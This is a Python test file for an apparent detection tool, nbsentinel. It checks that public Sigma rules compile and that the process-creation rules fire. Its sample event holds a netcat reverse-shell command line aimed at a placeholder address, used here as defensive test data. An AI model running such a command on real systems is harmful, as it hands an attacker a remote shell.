"""Public Sigma rules, where a copy lies beside the checkout: they all compile, and fire on what they describe."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from nbsentinel.detect.rules.compile import compile_paths
from nbsentinel.detect.rules.matcher import Matcher
from nbsentinel.detect.rules.pack import Pack, encode_pack, load_pack

DATA = Path(os.environ.get("NBSENTINEL_SIGMA_DATA") or Path(__file__).parents[4] / "shared" / "data")
FOLDERS = [folder for folder in (DATA / "sigma-linux", DATA / "sigma-aws") if folder.is_dir()]


@pytest.mark.parametrize("folder", FOLDERS, ids=lambda folder: folder.name)
def test_public_rules_compile(folder: Path) -> None:
    """Every rule compiles, and the pack survives being written and read."""
    compiled = compile_paths([folder])
    assert compiled.failed == ()
    assert load_pack(encode_pack(compiled.rules)).rules


@pytest.mark.parametrize("folder", FOLDERS[:1], ids=lambda folder: folder.name)
def test_public_process_rules_fire(folder: Path) -> None:
    """A classic command line meets the rules that were written for it."""
    compiled = compile_paths([folder / "process_creation"])
    matcher = Matcher(Pack(compiled.rules, ""))
    event = {"Image": "/usr/bin/nc", "CommandLine": "nc -e /bin/sh 192.0.2.1 4444", "ParentImage": "/bin/bash"}
    assert matcher.match("process_creation", event)
